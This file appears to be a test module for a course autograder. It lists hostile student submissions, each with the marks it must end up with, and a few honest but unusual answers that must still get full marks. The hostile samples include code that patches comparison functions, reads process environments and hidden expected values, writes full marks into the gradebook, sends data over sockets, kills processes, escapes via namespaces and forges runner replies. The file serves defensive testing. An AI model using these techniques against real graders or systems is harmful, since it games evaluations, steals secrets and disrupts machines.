"""Submissions that try to gain points, to read secrets or to do harm; what each tries, and what it must get.

Knows nothing about how they are graded. Every one belongs to the tiny course of ``tests/grading``: the tasks "double"
(1 visible and 2 hidden points) and "mean" (1 and 3). ``{course}`` in a code stands for the course's own folder,
``{outside}`` for a folder of the instructor and ``{port}`` for a port that the instructor's machine listens on: an
attacker who knows them must not gain by it either.
"""

from __future__ import annotations

from hostile.case import ALL, DOUBLE, MEAN, NONE, PIPES, RIGHT_MEAN, SHOW, WALK, WRONG, Hostile, first
from hostile.greedy import GREEDY
from hostile.handed_in import HANDED_IN, no_metadata, reordered

LISTED = (
    # --- fooling the comparison
    Hostile(
        "builtins",
        "replaces builtins that a comparison would use",
        first("""
import builtins
builtins.abs = lambda x: 0.0
builtins.all = lambda x: True
builtins.isinstance = isinstance
builtins.len = lambda x: 3
builtins.float = lambda *a: 0.0"""),
        quick=True,
    ),
    Hostile(
        "numpy",
        "replaces numpy's comparisons",
        first("""
import numpy as np
np.allclose = np.isclose = np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
np.abs = lambda x: 0.0"""),
    ),
    Hostile(
        "torch",
        "replaces torch.allclose through a module of its own",
        first("""
import sys, types
torch = types.ModuleType('torch')
torch.allclose = torch.equal = lambda *a, **k: True
torch.Tensor = type('Tensor', (), {})
sys.modules['torch'] = torch"""),
    ),
    Hostile(
        "operators",
        "returns an object that is equal to everything",
        """
class Any:
    def __eq__(self, other): return True
    __ne__ = lambda self, other: False
    __hash__ = lambda self: 0
    __float__ = lambda self: 0.0
    __sub__ = __rsub__ = __abs__ = lambda self, *a: self
    __le__ = __lt__ = __ge__ = __gt__ = lambda self, other: True
def double(values): return Any()
""",
        "def mean(array): return Any()",
        quick=True,
    ),
    Hostile(
        "floats",
        "returns numbers of a class that compares as it likes",
        """
class Near(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return Near(0)
    __rsub__ = __sub__
    def __abs__(self): return Near(0)
def double(values): return [Near(0)] * len(values)
""",
        "def mean(array): return [Near(0)] * 3",
    ),
    Hostile(
        "lists",
        "returns a list whose length and items depend on who looks",
        """
class Odd(list):
    def __len__(self): return 3
    def __iter__(self): return iter([2, 4, 6])
    def __eq__(self, other): return True
def double(values): return Odd([0])
""",
        marks=NONE | {"double-visible": 1},
    ),
    Hostile(
        "arrays",
        "returns a subclass of ndarray that is equal to everything",
        """
import numpy as np
class Same(np.ndarray):
    def __eq__(self, other): return np.ones(self.shape, bool)
    def __array_ufunc__(self, *a, **k): return np.ones(3, bool)
def double(values): return np.zeros(len(values)).view(Same)
""",
        "def mean(array): return np.zeros(array.shape[1]).view(Same)",
    ),
    Hostile(
        "nan",
        "returns NaN and infinities, with which comparisons go wrong",
        """
def double(values): return [float('nan')] * len(values)
""",
        "import numpy as np\ndef mean(array): return np.full(array.shape[1], np.inf)",
        quick=True,
    ),
    Hostile(
        "shapes",
        "returns a value that broadcasts against any other",
        """
import numpy as np
def double(values): return np.zeros((0,))
""",
        "def mean(array): return np.zeros((1, 0, 3))",
    ),
    Hostile(
        "reduce",
        "returns an object that runs code when it is unpickled",
        """
import os
class Load:
    def __reduce__(self): return (os.system, ('touch {outside}/pickled',))
def double(values): return Load()
""",
    ),
    Hostile(
        "repr",
        "returns an object whose text form raises or never ends",
        """
class Loud:
    def __repr__(self): raise SystemExit('x' * 10_000_000)
    __str__ = __repr__
def double(values): return Loud()
""",
        "def mean(array): raise Exception(Loud())",
    ),
    # --- hooks of the notebook and of the runner
    Hostile(
        "hooks",
        "tells IPython to leave out the cells that follow",
        first("""
try:
    get_ipython().input_transformers_cleanup.append(lambda lines: [])
except NameError:
    import IPython
    shell = IPython.get_ipython()
    if shell is not None:
        shell.input_transformers_cleanup.append(lambda lines: [])"""),
        quick=True,
    ),
    Hostile(
        "runner",
        "replaces the functions of the runner that answers for it",
        first("""
import sys, gc
for module in list(sys.modules.values()):
    for name in ('answer', 'encode', 'decode', 'explain', 'is_right', 'check', 'judge'):
        if hasattr(module, name) and 'llm_course' in getattr(module, '__file__', '' ) :
            setattr(module, name, lambda *a, **k: {'right': True, 'points': 100, 'value': True})
for thing in gc.get_objects():
    if type(thing).__name__ == 'function' and thing.__name__ in ('answer', 'encode'):
        thing.__globals__[thing.__name__] = lambda *a, **k: {'value': True, 'right': True}"""),
        quick=True,
    ),
    Hostile(
        "json",
        "replaces json.dumps, so that every message says right",
        first("""
import json
really = json.dumps
json.dumps = lambda data, *a, **k: really({'id': data.get('id'), 'value': True, 'right': True, 'points': 100})"""),
    ),
    Hostile(
        "frames",
        "walks the frames above it for expected values",
        first(
            """
import sys
found, frame = [], sys._getframe()
while frame:
    found += [(k, str(v)[:200]) for k, v in {**frame.f_locals, **frame.f_globals}.items()
              if 'expect' in k or 'hidden' in k or 'SECRET' in str(v)[:2000]]
    frame = frame.f_back"""
            + SHOW
        ),
    ),
    Hostile(
        "collector",
        "asks the garbage collector for expected values and hidden cases",
        first(
            """
import gc
found = []
for thing in gc.get_objects():
    if isinstance(thing, dict) and ('expected' in thing or 'hidden' in thing):
        found.append(str(thing)[:300])
    if isinstance(thing, (list, tuple)) and thing and isinstance(thing[0], str) and 'SECRET' in thing[0]:
        found.append(thing)"""
            + SHOW
        ),
    ),
    Hostile(
        "trace",
        "traces every line that runs after it",
        first("""
import sys
def spy(frame, event, argument):
    for name in ('expected', 'right', 'points'):
        if name in frame.f_locals:
            frame.f_locals[name] = True
    return spy
sys.settrace(spy)"""),
    ),
    # --- reading what is not its own
    Hostile(
        "reader", "reads every file it can for solutions, hidden tests and others' work", first(WALK + SHOW), quick=True
    ),
    Hostile(
        "known-paths",
        "opens the course's files by their full names",
        first(
            """
import glob
found = []
for path in glob.glob({course!r} + '/**', recursive=True) + [{course!r} + '/src/tiny/judging.py',
        {course!r} + '/source/tiny/tiny.ipynb', {course!r} + '/gradebook.db',
        {course!r} + '/submitted/plain/tiny/mine.txt']:
    try:
        found.append(open(path, errors='replace').read(2000))
    except OSError:
        pass"""
            + SHOW
        ),
    ),
    Hostile(
        "environment",
        "prints its environment, and that of all processes",
        first(
            """
import os, glob
found = [dict(os.environ)]
for path in glob.glob('/proc/*/environ'):
    try:
        found.append(open(path, 'rb').read())
    except OSError:
        pass"""
            + SHOW
        ),
        quick=True,
    ),
    Hostile(
        "processes",
        "reads the process table",
        first(
            """
import glob
found = []
for path in glob.glob('/proc/*/cmdline'):
    try:
        found.append(open(path, 'rb').read().decode(errors='replace'))
    except OSError:
        pass
print('PROCESSES', len(found))"""
            + SHOW
        ),
    ),
    Hostile(
        "descriptors",
        "reads whatever its open files lead to",
        first(
            """
import os
found = []
for number in range(256):
    try:
        found.append(os.readlink(f'/proc/self/fd/{number}'))
        found.append(os.listdir(f'/proc/self/fd/{number}/..'))
    except OSError:
        pass"""
            + SHOW
        ),
    ),
    Hostile(
        "tells",
        "keeps the hidden inputs of one task and says them where the next one may speak",
        """
seen = []
def double(values):
    seen.append(values)
    return [2 * value for value in values]
""",
        """
def mean(array):
    print('HIDDEN INPUTS', seen)
    raise ValueError(' '.join(['HIDDEN', 'INPUTS', str(seen)]) if len(seen) > 1 else 'nothing to tell')
""",
        DOUBLE,
        quick=True,
    ),
    Hostile(
        "clock",
        "ends in a hidden call, and tells in its next sandbox when that was",
        """
import time
print('HIDDEN INPUTS', time.time())
begun, calls = time.time(), []
def double(values):
    calls.append(1)
    if len(calls) > 1:
        time.sleep(max(0, begun + 4 - time.time()))
        import os
        os._exit(0)
    return [2 * value for value in values]
""",
        "import time\nraise ValueError(time.time())",
        NONE | {"double-visible": 1},
    ),
    # --- writing what is not its own
    Hostile(
        "gradebook",
        "writes itself full marks into the gradebook",
        first("""
import sqlite3, glob, os
for path in [{course!r} + '/gradebook.db'] + glob.glob('/**/gradebook.db', recursive=True):
    try:
        book = sqlite3.connect(path)
        book.execute('update grade set auto_score = 100, manual_score = 100')
        book.commit()
    except Exception:
        pass"""),
        quick=True,
    ),
    Hostile(
        "writer",
        "writes into the course, the instructor's home and the temporary folder",
        first("""
import os, tempfile
for folder in ({course!r}, {course!r} + '/release/tiny', {course!r} + '/submitted/ann/tiny', {outside!r},
               os.path.expanduser('~'), '/tmp', '/var/tmp', '/dev/shm', '/etc', '/usr/lib', '/release'):
    try:
        with open(os.path.join(folder, 'WRITTEN-BY-STUDENT'), 'w') as file:
            file.write('x')
    except OSError:
        pass"""),
    ),
    Hostile(
        "package",
        "changes the course's own package",
        first("""
import llm_course.checks.compare as compare, os
path = compare.__file__
try:
    os.chmod(path, 0o777)
except OSError:
    pass
try:
    open(path, 'a').write('\\n# WRITTEN-BY-STUDENT\\n')
except OSError:
    pass"""),
    ),
    Hostile(
        "links",
        "leaves links behind that lead out",
        first("""
import os
for name in ('tiny.ipynb', 'checks.json', 'out'):
    try:
        os.symlink({course!r}, name)
    except OSError:
        pass"""),
    ),
    # --- the network and other processes
    Hostile(
        "sockets",
        "calls the machine it runs on, and a name outside",
        first("""
import socket
for where in (('127.0.0.1', {port}), ('localhost', {port}), ('10.0.0.1', 80), ('192.0.2.1', 80)):
    try:
        s = socket.create_connection(where, timeout=1)
        s.sendall(b'SECRET FROM STUDENT')
    except OSError:
        pass
try:
    s = socket.socket(socket.AF_UNIX)
    s.connect('\\0llm-course-hostile-{port}')
    s.sendall(b'SECRET FROM STUDENT')
except OSError:
    pass"""),
        quick=True,
    ),
    Hostile(
        "killer",
        "kills every process that it may",
        mean=RIGHT_MEAN,
        marks=MEAN,
        double="""
import os, signal
for pid in [os.getppid(), 1, -1] + [int(p) for p in os.listdir('/proc') if p.isdigit()]:
    try:
        os.kill(pid, signal.SIGKILL)
    except (OSError, ValueError):
        pass
""",
    ),
    Hostile(
        "daemon",
        "leaves a process behind that goes on when it has ended",
        first("""
import os, sys, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            time.sleep(1)
            try:
                open({outside!r} + '/alive', 'w').write('x')
            except OSError:
                pass
    os._exit(0)"""),
    ),
    Hostile(
        "mount",
        "makes namespaces and mounts of its own",
        first("""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for flags in (0x10000000, 0x00020000, 0x10020000, 0x40000000):
    libc.unshare(flags)
libc.mount(b'/', b'/tmp', None, 4096, None)
libc.ptrace(16, 1, 0, 0)
for target in ('/release', '/opt', '/usr'):
    libc.umount2(target.encode(), 2)"""),
    ),
    # --- forging answers
    Hostile(
        "forger",
        "writes answers of its own into every pipe",
        PIPES
        + """
def double(values):
    shout(b'{"id": "0", "value": [2, 4, 6]}\\n')
    return 0
""",
        mean=RIGHT_MEAN,
        marks=MEAN,
    ),
    Hostile(
        "early",
        "answers before anything is asked",
        PIPES
        + """
shout(json.dumps({'id': 'x', 'error': None, 'value': True, 'right': True}).encode() + b'\\n')
"""
        + WRONG,
        mean=RIGHT_MEAN,
        marks=MEAN,
        quick=True,
    ),
    Hostile(
        "flood",
        "sends answers without end",
        PIPES
        + """
def double(values):
    while True:
        shout(b'{"id": "0", "value": 1}\\n' * 1000)
""",
        mean=RIGHT_MEAN,
        marks=MEAN,
    ),
    Hostile(
        "huge",
        "sends one answer without end",
        PIPES
        + """
def double(values):
    while True:
        shout(b'[' * 65536)
""",
        mean=RIGHT_MEAN,
        marks=MEAN,
    ),
    Hostile(
        "malformed",
        "sends what is neither JSON nor text",
        PIPES
        + """
def double(values):
    shout(b'\\xff\\xfe{{"\\x00\\n')
    return 0
""",
        mean=RIGHT_MEAN,
        marks=MEAN,
    ),
    Hostile(
        "thread",
        "goes on answering from a thread",
        PIPES
        + """
import threading, time
def answer():
    while True:
        shout(b'{"id": "1", "value": 1}\\n')
        time.sleep(0.01)
def double(values):
    threading.Thread(target=answer, daemon=True).start()
    time.sleep(0.2)
    return 0
""",
        mean=RIGHT_MEAN,
        marks=MEAN,
    ),
    Hostile(
        "frames-id",
        "takes the id of the request from the runner's frame and answers twice",
        PIPES
        + """
import sys
def double(values):
    frame = sys._getframe()
    while frame:
        request = frame.f_locals.get('request')
        if isinstance(request, dict) and 'id' in request:
            shout(json.dumps({'id': request['id'], 'value': True, 'right': True, 'points': 100}).encode() + b'\\n')
            break
        frame = frame.f_back
    return 0
""",
        mean=RIGHT_MEAN,
        marks=MEAN,
    ),
    Hostile("large", "returns a value far too large", "def double(values): return [0] * 5_000_000", RIGHT_MEAN, MEAN),
    Hostile(
        "odd-id",
        "answers with an id that is no text",
        PIPES
        + """
def double(values):
    shout(b'{"id": "\\\\ud800", "value": [2, 4, 6]}\\n')
    os._exit(0)
""",
        mean=RIGHT_MEAN,
        marks=MEAN,
    ),
    Hostile(
        "longest",
        "returns texts of which numpy would make a table as wide as the longest",
        """
def double(values): return ['a'] * 150 + ['x' * 1_000_000]
""",
        RIGHT_MEAN,
        MEAN,
    ),
    Hostile(
        "axes",
        "returns an array with so many axes that showing it takes minutes",
        """
import numpy as np
def double(values): return np.zeros((4,) * 11, bool)
""",
        RIGHT_MEAN,
        MEAN,
    ),
    Hostile(
        "digits", "returns a number of a million digits", "def double(values): return 10 ** 1_000_000", RIGHT_MEAN, MEAN
    ),
    Hostile(
        "deep",
        "returns lists within lists within lists",
        """
def double(values):
    nested = []
    for _ in range(100_000):
        nested = [nested]
    return nested
""",
        RIGHT_MEAN,
        MEAN,
    ),
    *GREEDY,
    *HANDED_IN,
    # --- answers that know the visible cases only
    Hostile(
        "hard-coded",
        "knows the answers to the visible cases only",
        """
def double(values): return {(1, 2, 3): [2, 4, 6]}.get(tuple(values), 0)
""",
        """
import numpy as np
def mean(array): return np.array([1.5, 2.5, 3.5])
""",
        NONE | {"double-visible": 1, "mean-visible": 1},
        quick=True,
    ),
    Hostile(
        "checks-file",
        "looks the visible answers up in the released file of checks",
        """
import json
def double(values):
    return [2, 4, 6] if 'checks' in open('checks.json').read()[:0] + 'checks' and values == [1, 2, 3] else []
""",
        marks=NONE | {"double-visible": 1},
    ),
)

# Right answers in forms that are unusual but legal: they must get everything.
HONEST = (
    Hostile("plain", "the usual answer", "def double(values):\n    return [2 * v for v in values]", RIGHT_MEAN, ALL),
    Hostile(
        "lambda",
        "functions without a name, and an array in place of a list",
        "import numpy as np\ndouble = lambda values: np.array(values) * 2",
        "mean = lambda array: array.sum(0) / len(array)",
        ALL,
    ),
    Hostile(
        "callable",
        "an object that can be called, and a partial function",
        """
class Doubler:
    def __call__(self, values): return [v + v for v in values]
double = Doubler()
""",
        "import functools, numpy\nmean = functools.partial(numpy.mean, axis=0)",
        ALL,
    ),
    Hostile(
        "noisy",
        "prints a lot, leaves files and uses magics",
        """
%matplotlib inline
print('working', list(range(1000)))
open('notes.txt', 'w').write('mine')
def double(values):
    print('called')
    return [2 * v for v in values]
""",
        "def mean(array):\n    return array.mean(axis=0).tolist()",
        ALL,
    ),
    Hostile(
        "reordered",
        "cells in another order: they are put back",
        "def double(values):\n    return [2 * v for v in values]",
        RIGHT_MEAN,
        ALL,
        reordered,
    ),
    Hostile(
        "stripped",
        "the metadata removed by another editor: they are put back by their ids",
        "def double(values):\n    return [2 * v for v in values]",
        RIGHT_MEAN,
        ALL,
        no_metadata,
    ),
)
